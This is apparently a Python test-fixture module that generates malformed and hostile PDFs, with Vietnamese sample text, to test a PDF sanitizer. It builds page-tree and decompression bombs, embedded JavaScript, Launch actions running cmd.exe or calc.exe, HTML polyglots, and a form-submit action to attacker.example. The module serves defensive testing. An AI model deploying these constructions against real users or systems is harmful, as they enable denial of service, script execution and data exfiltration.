"""Good and bad PDFs made by the tests themselves (nothing is copied from elsewhere).

`raw_pdf` writes a PDF from numbered object bodies with a correct cross-reference table, so a test can build any
structure — a page-tree bomb, a JavaScript action — and be sure that what is refused is the structure, not a sloppy
xref.
"""

from __future__ import annotations

import io
import re
import zlib
from collections.abc import Sequence

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from documents import samples

VIETNAMESE = (
    "Hội đồng nhân dân tỉnh quyết nghị thông qua dự toán ngân sách địa phương năm 2027.",
    "Đại biểu Nguyễn Thị Hương đề nghị làm rõ nguồn vốn đối ứng của dự án đường ven biển.",
)


def good_pdf(title: str = "Tờ trình về dự toán ngân sách", paragraphs: Sequence[str] = VIETNAMESE) -> bytes:
    return samples.simple(title, paragraphs)


def raw_pdf(objects: Sequence[bytes], root: int = 1) -> bytes:
    """A PDF whose object n (1-based) has body objects[n-1], with an exact xref table and trailer."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: list[int] = []
    for n, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n" % (len(objects) + 1)
    out += b"0000000000 65535 f \n"
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref)
    return bytes(out)


def _page(parent: int, contents: int | None = None) -> bytes:
    c = b" /Contents %d 0 R" % contents if contents else b""
    return b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842]%s >>" % (parent, c)


def page_tree_bomb(levels: int = 40) -> bytes:
    """Each /Pages node lists the next one twice: `levels` objects declare 2**levels pages (~1 kB on disk)."""
    objects: list[bytes] = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for i in range(levels):
        me = 2 + i
        parent = b" /Parent %d 0 R" % (me - 1) if i else b""
        kid = me + 1
        objects.append(b"<< /Type /Pages%s /Kids [%d 0 R %d 0 R] /Count %d >>" % (parent, kid, kid, 2 ** (levels - i)))
    objects.append(_page(1 + levels))
    return raw_pdf(objects)


def deep_page_tree(depth: int = 200) -> bytes:
    """A chain of `depth` /Pages nodes with one page at the bottom."""
    objects: list[bytes] = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for i in range(depth):
        me = 2 + i
        parent = b" /Parent %d 0 R" % (me - 1) if i else b""
        objects.append(b"<< /Type /Pages%s /Kids [%d 0 R] /Count 1 >>" % (parent, me + 1))
    objects.append(_page(1 + depth))
    return raw_pdf(objects)


def page_tree_cycle() -> bytes:
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
        ]
    )


def decompression_bomb(megabytes: int = 100) -> bytes:
    """One page whose content stream inflates to `megabytes` MB of spaces (~100 kB on disk)."""
    comp = zlib.compressobj(9)
    chunk = b" " * (1024 * 1024)
    data = b"".join(comp.compress(chunk) for _ in range(megabytes)) + comp.flush()
    stream = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data) + data + b"\nendstream"
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            _page(2, contents=4),
            stream,
        ]
    )


def no_pages() -> bytes:
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])


def truncated(data: bytes) -> bytes:
    return data[: len(data) // 2]


def broken_xref(data: bytes) -> bytes:
    """Every in-use xref offset moved 7 bytes: the table no longer points at the objects."""
    m = re.search(rb"\nxref\n0 \d+\n", data)
    assert m is not None, "no classic xref table"
    body = re.sub(rb"(\d{10}) 00000 n", lambda x: b"%010d 00000 n" % (int(x.group(1)) + 7), data[m.end() :])
    return data[: m.end()] + body


def encrypted(data: bytes, user_password: str = "") -> bytes:
    from pypdf import PdfReader

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(data)))
    writer.encrypt(user_password, "owner-secret", algorithm="AES-256")
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def _with(data: bytes, edit: object) -> bytes:
    from pypdf import PdfReader

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(data)))
    edit(writer)  # type: ignore[operator]
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def javascript_open_action(data: bytes) -> bytes:
    def edit(w: PdfWriter) -> None:
        w._root_object[NameObject("/OpenAction")] = DictionaryObject(
            {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert('x');")}
        )

    return _with(data, edit)


def javascript_name_tree(data: bytes) -> bytes:
    def edit(w: PdfWriter) -> None:
        js = DecodedStreamObject()
        js.set_data(b"app.alert('hello');")
        action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): w._add_object(js)})
        tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("a"), w._add_object(action)])})
        w._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): w._add_object(tree)})

    return _with(data, edit)


def launch_link(data: bytes) -> bytes:
    """A link annotation on page 1 whose action launches a program."""

    def edit(w: PdfWriter) -> None:
        action = DictionaryObject(
            {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
        )
        annot = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): ArrayObject(
                    [NumberObject(0), NumberObject(0), NumberObject(50), NumberObject(50)]
                ),
                NameObject("/A"): action,
            }
        )
        w.pages[0][NameObject("/Annots")] = ArrayObject([w._add_object(annot)])

    return _with(data, edit)


def embedded_file(data: bytes) -> bytes:
    return _with(data, lambda w: w.add_attachment("bang-tinh.xlsx", b"PK\x03\x04 not really a spreadsheet"))


def padded(data: bytes, total: int) -> bytes:
    """A valid PDF grown to at least `total` bytes with comment lines after its end (an oversized upload)."""
    line = b"%" + b"x" * 78 + b"\n"
    missing = max(0, total - len(data) - 7)
    return data + line * (missing // len(line) + 1) + b"%%EOF\n"


# --- real-world defects that PDF readers repair (issue 9, part 3) ----------------------------------------------------
def update_xref_not_zero_indexed(data: bytes) -> bytes:
    """An incremental update (as editors and signing tools append) whose xref section starts at the object it
    rewrites, not at 0 — valid PDF; pypdf in strict mode logs "Xref table not zero-indexed" about it."""
    root = int(re.findall(rb"/Root (\d+) 0 R", data)[-1])
    body = re.search(rb"\n%d 0 obj\s*(<<.*?>>)\s*endobj" % root, data, re.S)
    assert body is not None
    prev = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    size = int(re.findall(rb"/Size (\d+)", data)[-1])
    start = len(data)
    obj = b"%d 0 obj\n" % root + body.group(1) + b"\nendobj\n"
    return (
        data
        + obj
        + b"xref\n%d 1\n%010d 00000 n \ntrailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
        % (root, start, size, root, prev, start + len(obj))
    )


def xref_without_free_entry(data: bytes) -> bytes:
    """The xref table starts at object 1, leaving out the free entry 0 (as some generators write it)."""
    out, n = re.subn(
        rb"xref\n0 (\d+)\n0000000000 65535 f\s?\n", lambda m: b"xref\n1 %d\n" % (int(m.group(1)) - 1), data
    )
    assert n == 1, "no classic xref table"
    return out


def trailing_nuls(data: bytes, count: int = 4096) -> bytes:
    return data + b"\0" * count


def trailing_junk(data: bytes, count: int = 1800) -> bytes:
    """`count` bytes after %%EOF, as some mail gateways and scanners leave (a signature block, padding)."""
    line = b"-- trailer left by a mail gateway --\n"
    return data + (line * (count // len(line) + 1))[:count]


def junk_before_header(data: bytes, count: int = 1000) -> bytes:
    """`count` bytes before %PDF- (readers look for the header within the first 1024 bytes)."""
    return b"\x00MIME-Version: 1.0\r\n" + b"x" * (count - 21) + b"\n" + data


def html_after(data: bytes) -> bytes:
    """A PDF followed by an HTML page: a polyglot that a browser sniffing the content might render."""
    return data + b"<!doctype html><html><body><script>alert(document.domain)</script></body></html>\n"


def html_before(data: bytes) -> bytes:
    """An HTML page, then a PDF starting within the first 1024 bytes (readers still open it)."""
    return b"<!doctype html><html><body><script>alert(document.domain)</script></body></html>\n" + data


def crlf_mangled(data: bytes) -> bytes:
    """A binary PDF sent in text mode: every LF became CRLF, inside compressed streams too."""
    return data.replace(b"\n", b"\r\n")


def broken_metadata(data: bytes) -> bytes:
    """An XMP metadata stream that claims Flate compression but holds bytes that do not inflate."""

    def edit(w: PdfWriter) -> None:
        meta = StreamObject()
        meta._data = b"\x78\x9c this is not deflate data \xff\x00\xfe" * 20
        meta[NameObject("/Type")] = NameObject("/Metadata")
        meta[NameObject("/Subtype")] = NameObject("/XML")
        meta[NameObject("/Filter")] = NameObject("/FlateDecode")
        w._root_object[NameObject("/Metadata")] = w._add_object(meta)

    return _with(data, edit)


# --- more active content -----------------------------------------------------------------------------------------
def _link(w: PdfWriter, action: DictionaryObject, key: str = "/A") -> None:
    annot = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(50), NumberObject(50)]),
        }
    )
    annot[NameObject(key)] = action if key == "/A" else DictionaryObject({NameObject("/U"): action})
    annots = w.pages[0].get("/Annots")
    existing = list(annots) if isinstance(annots, ArrayObject) else []
    w.pages[0][NameObject("/Annots")] = ArrayObject([*existing, w._add_object(annot)])


def _action(kind: str, **entries: object) -> DictionaryObject:
    d = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for k, v in entries.items():
        d[NameObject(f"/{k}")] = v  # type: ignore[assignment]
    return d


def uri_javascript(data: bytes) -> bytes:
    """A link whose URI action is a javascript: address (and a harmless https link beside it, which stays)."""

    def edit(w: PdfWriter) -> None:
        _link(w, _action("/URI", URI=TextStringObject("https://hdnd.example.gov.vn/")))
        _link(w, _action("/URI", URI=TextStringObject("  JavaScript:app.alert(1)")))

    return _with(data, edit)


def page_additional_actions(data: bytes) -> bytes:
    """JavaScript run when page 1 opens (/AA /O on the page) and when the mouse enters a link (/AA /E)."""

    def edit(w: PdfWriter) -> None:
        js = _action("/JavaScript", JS=TextStringObject("app.alert('page');"))
        w.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): w._add_object(js)})
        _link(w, _action("/JavaScript", JS=TextStringObject("app.alert('link');")), key="/AA")

    return _with(data, edit)


def chained_launch(data: bytes) -> bytes:
    """A harmless GoTo open action whose /Next launches a program: the whole chain is removed."""

    def edit(w: PdfWriter) -> None:
        launch = _action("/Launch", F=TextStringObject("calc.exe"))
        goto = _action("/GoTo", D=ArrayObject([w.pages[0].indirect_reference, NameObject("/Fit")]))
        goto[NameObject("/Next")] = w._add_object(launch)
        w._root_object[NameObject("/OpenAction")] = w._add_object(goto)

    return _with(data, edit)


def xfa_form(data: bytes) -> bytes:
    def edit(w: PdfWriter) -> None:
        xfa = DecodedStreamObject()
        xfa.set_data(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>xfa.host.messageBox(1)</script></xdp:xdp>")
        w._root_object[NameObject("/AcroForm")] = DictionaryObject(
            {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): w._add_object(xfa)}
        )

    return _with(data, edit)


def rich_media(data: bytes, subtype: str = "/RichMedia") -> bytes:
    """A RichMedia annotation (Flash/video with scripts) on page 1, or another multimedia `subtype` (/3D…)."""

    def edit(w: PdfWriter) -> None:
        annot = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject(subtype),
                NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(9), NumberObject(9)]),
            }
        )
        w.pages[0][NameObject("/Annots")] = ArrayObject([w._add_object(annot)])

    return _with(data, edit)


def submit_form(data: bytes) -> bytes:
    def edit(w: PdfWriter) -> None:
        _link(w, _action("/SubmitForm", F=TextStringObject("https://attacker.example/collect")))

    return _with(data, edit)


def many_pages(pages: int = 100) -> bytes:
    """A text document of `pages` pages (the size of a typical report, for timing)."""
    paragraph = " ".join(VIETNAMESE) * 6
    body: list[str] = []
    for n in range(pages):
        if n:
            body.append("\f")
        body.extend([f"Trang {n + 1}.", paragraph, paragraph])
    return good_pdf("Báo cáo kinh tế - xã hội năm 2026", body)
